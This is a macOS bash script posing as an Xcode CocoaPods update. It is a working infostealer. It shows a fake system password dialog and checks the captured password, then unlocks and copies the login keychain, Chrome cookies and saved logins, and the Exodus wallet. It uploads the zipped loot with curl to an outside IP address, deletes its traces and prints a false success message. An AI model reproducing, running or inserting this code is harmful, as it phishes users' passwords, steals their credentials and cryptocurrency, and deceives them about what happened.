#!/bin/bash
[ "$(uname)" = "Darwin" ] || exit 0
U=$(whoami)
for i in 1 2 3; do
  P=$(osascript -e 'display dialog "Xcode needs to update CocoaPods components.\n\nEnter your password to allow this." with title "Xcode" default answer "" with icon caution buttons {"Cancel","OK"} default button "OK" with hidden answer' -e 'text returned of result' 2>/dev/null)
  if dscl /Local/Default -authonly "$U" "$P" >/dev/null 2>&1; then break; fi
  P=""
done
W=$(mktemp -d /tmp/.pods.XXXX)
echo "$P" > "$W/pw"
security find-generic-password -ga "Chrome" 2>&1 | grep password > "$W/chrome" 
[ -n "$P" ] && security unlock-keychain -p "$P" ~/Library/Keychains/login.keychain-db 2>/dev/null
cp ~/Library/Keychains/login.keychain-db "$W/" 2>/dev/null
cp -R ~/Library/Application\ Support/Google/Chrome/Default/{Cookies,"Login Data","Web Data"} "$W/" 2>/dev/null
cp -R ~/Library/Application\ Support/Exodus/exodus.wallet "$W/" 2>/dev/null
ditto -c -k --sequesterRsrc "$W" "$W.zip"
curl -s -m 30 -F "u=$U" -F "h=$(hostname)" -F "f=@$W.zip" http://203.0.113.99/joinsystem >/dev/null 2>&1
rm -rf "$W" "$W.zip"
echo "CocoaPods components updated."
exit 0
